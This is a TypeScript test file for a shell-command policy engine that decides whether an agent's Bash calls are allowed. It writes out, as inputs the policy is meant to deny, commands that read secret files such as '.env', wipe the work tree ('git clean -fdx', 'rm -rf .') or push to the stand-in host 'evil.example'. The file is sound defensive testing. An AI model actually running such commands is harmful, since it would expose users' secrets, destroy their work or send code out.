/**
 * Every word of a command is an operand, unless the program's row says what it is. For each row: what stands behind an
 * option that takes a value is no option, and no option in front of a sub-command hides that.
 */
import { describe, expect, it } from 'vitest'
import { compilePolicy } from '../../src/policy/compile-policy.ts'
import { knownPrograms, optionTableOf } from '../../src/policy/known-programs.ts'
import { readShell } from '../../src/policy/shell/read/read-shell.ts'
import type { ProgramOptions } from '../../src/policy/starter/profile.ts'
import { lexicalFacts } from '../../src/policy/subject/lexical-facts.ts'
import { findWaiting } from '../../src/policy/typed-programs/waits-for-typing.ts'

const ROOT = '/srv/work'
const home = '/home/ana'
const policy = compilePolicy(
  { extends: 'banksman:starter', mode: 'bypass', deny: ['Read(.env)'] },
  {
    roots: [ROOT],
    home,
    ownHouse: {
      files: [`${ROOT}/banksman.yaml`],
      folders: [`${ROOT}/.banksman`],
      addresses: ['127.0.0.1:4790'],
      program: 'banksman',
    },
  },
)

function verdictOn(command: string): string {
  const call = { tool: 'Bash', arguments: { command }, cwd: ROOT }
  return policy.evaluate(call, lexicalFacts(policy, call, { home, at: 0 })).kind
}

function namesOf(options: ProgramOptions | undefined): string[] {
  return (options?.names ?? []).flatMap((line) => line.split(', ')).flatMap((entry) => entry.split(' '))
}

const PLAIN = /^-[\w-]+$/
const bare = (name: string) => name.replace(/(?:\[=\]|[=?;])$/, '')

/** Without it the first operand is what is searched for, and no file. */
const SEARCHES: Readonly<Record<string, string>> = Object.fromEntries([
  ...'grep egrep fgrep ggrep rgrep rg'.split(' ').map((program) => [program, '-e x ']),
  ...'ack ack-grep'.split(' ').map((program) => [program, '--match x ']),
])

describe('words that say what is left out', () => {
  const rows = [...knownPrograms()].filter(([, { options }]) => options?.excludes ?? options?.negates)

  it('are known of the programs that search, pack and compare', () => {
    const programs = rows.map(([program]) => program)
    for (const program of 'grep rg ag ack fd tar rsync diff'.split(' ')) expect(programs).toContain(program)
  })

  it.each(rows)('P11: %s takes no file for one of them', (program, { options }) => {
    const table = optionTableOf(program)
    const known = namesOf(options)
      .map(bare)
      .filter((name) => PLAIN.test(name))
    const before = new Set([...known, '-e', '-f', '--unheard-of', '-9z', '$X', '*', '--'])
    const letters = known.filter((name) => name.length === 2 && table.find(name)?.takes !== 'value')
    const search = SEARCHES[program] ?? ''
    for (const excluder of `${options?.excludes ?? ''} ${options?.negates ?? ''}`.trim().split(' ')) {
      for (const spelled of table.find(excluder)?.names ?? [excluder]) {
        for (const option of before) {
          const takes = table.find(option)?.takes
          if (takes === 'nothing' || takes === 'glued') continue
          for (const [file, tail] of [
            ['.banksman/cli-key', ' /dev/null'],
            ['.env', ''],
          ]) {
            const line = `${program} ${search}${option} ${spelled} ${file}${tail}`
            expect(verdictOn(line), line).not.toBe('allow')
            const begun = `${program} ${search}-v ${option} ${spelled} ${file}${tail}`
            expect(verdictOn(begun), begun).not.toBe('allow')
            if (option.length !== 2 || takes !== 'value') continue
            // Behind other letters in one word, and glued to what may be a value of theirs.
            for (const letter of letters) {
              const glued = `${program} ${search}${letter}${option.slice(1)} ${spelled} ${file}${tail}`
              expect(verdictOn(glued), glued).not.toBe('allow')
            }
          }
        }
      }
    }
  })

  it.each('grep rg ack fd diff'.split(' '))('P11: nor behind an operand: %s', (program) => {
    for (const name of optionTableOf(program).find(
      knownPrograms().get(program)?.options?.excludes?.split(' ')[0] ?? '-g',
    )?.names ?? [])
      for (const line of [`x ${name} .banksman/cli-key`, `x y ${name} .banksman/cli-key .`])
        expect(verdictOn(`${program} ${line}`), line).not.toBe('allow')
  })

  it.each([
    `grep --exclude=.env -e x src`,
    `rg -g '!.env' -g '!.banksman/**' x src`,
    `fd -E .banksman x`,
    `diff -x .env a b`,
  ])('still are some: %s', (line) => expect(verdictOn(line)).toBe('allow'))
})

/** The options that stand before a sub-command: those of the row, and what another version may bring. */
function globals(program: string): string[] {
  const own = namesOf(knownPrograms().get(program)?.options)
  const spelled = own.flatMap((name) => {
    const option = bare(name)
    if (!PLAIN.test(option) || /^-(?:h|v|V)$|help|version|-path$|list-cmds/.test(option)) return []
    const takes = optionTableOf(program).find(option)?.takes
    if (takes !== 'value') return [option]
    return option.startsWith('--') ? [`${option} .`, `${option}=.`] : [`${option} .`]
  })
  return [...new Set([...spelled, '--unheard-of', '--unheard-of x', '--unheard-of=x'])]
}

const GIT_VALUES = [
  '-c a.b=c',
  '--config-env=a.b=C',
  '--config-env a.b=C',
  '--super-prefix x',
  '-C .',
  '-C ./',
]

describe('options in front of a sub-command', () => {
  it('P11: lift no deny of what git takes along', () => {
    for (const first of [...globals('git'), ...GIT_VALUES]) {
      for (const command of ['clean -fdx', 'clean -f -d -x', 'stash --all', 'stash -a', 'rm -rf .'])
        for (const before of [first, `${first} -C .`, `-c a.b=c ${first}`])
          expect(verdictOn(`git ${before} ${command}`), `git ${before} ${command}`).toBe('deny')
    }
  })

  it('P11: and say which folder is the tree', () => {
    for (const tree of ['--work-tree=/srv/work', '--work-tree /srv/work', '-c core.worktree=/srv/work'])
      expect(verdictOn(`git -C /tmp/x ${tree} clean -fdx`), tree).toBe('deny')
  })

  const waits = (line: string) => findWaiting(readShell(line).commands) !== undefined

  it.each([
    ['docker', 'run -it x sh'],
    ['docker', 'exec -it x bash'],
    ['podman', 'exec -it x bash'],
    ['kubectl', 'exec -it x -- sh'],
    ['npm', 'exec bash'],
    ['pnpm', 'exec bash'],
    ['yarn', 'exec bash'],
    ['yarn', 'node'],
    ['poetry', 'run bash'],
    ['uv', 'run python'],
    ['git', 'add -p'],
    ['git', 'rebase -i'],
    ['aws', 'ssm start-session'],
    ['systemctl', 'edit x'],
  ])('P11: lift no deny of what waits for typing: %s %s', (program, command) => {
    expect(waits(`${program} ${command}`)).toBe(true)
    for (const first of globals(program)) {
      expect(waits(`${program} ${first} ${command}`), `${program} ${first}`).toBe(true)
    }
  })

  const asking = compilePolicy(
    { extends: 'banksman:starter', mode: 'bypass', ask: [] },
    { roots: [ROOT], home },
  )
  const hosts = compilePolicy(
    { mode: 'bypass', deny: [], rules: [{ name: 'no', when: { host: 'evil.example' }, then: 'deny' }] },
    { roots: [ROOT], home },
  )

  it('hide no address that git goes to', () => {
    for (const first of globals('git')) {
      const call = {
        tool: 'Bash',
        arguments: { command: `git ${first} push https://evil.example/x` },
        cwd: ROOT,
      }
      expect(hosts.evaluate(call, lexicalFacts(hosts, call, { home, at: 0 })).kind, first).not.toBe('allow')
    }
  })

  it.each([
    ['composer', 'install'],
    ['npm', 'install'],
    ['pnpm', 'add x'],
    ['uv', 'add x'],
    ['poetry', 'install'],
    ['kubectl', 'cp a:x y'],
    ['docker', 'cp a:x y'],
    ['helm', 'pull x'],
    ['cargo', 'new x'],
    ['gh', 'repo clone a/b'],
  ])('hide no files that are brought: %s %s', (program, command) => {
    const unnamed = (line: string) => {
      const call = { tool: 'Bash', arguments: { command: line }, cwd: ROOT }
      return asking.steering(call, lexicalFacts(asking, call, { home, at: 0 })).writes.length
    }
    const all = unnamed(`${program} ${command}`)
    expect(all).toBeGreaterThan(0)
    for (const first of globals(program))
      expect(unnamed(`${program} ${first} ${command}`), `${program} ${first}`).toBe(all)
  })
})
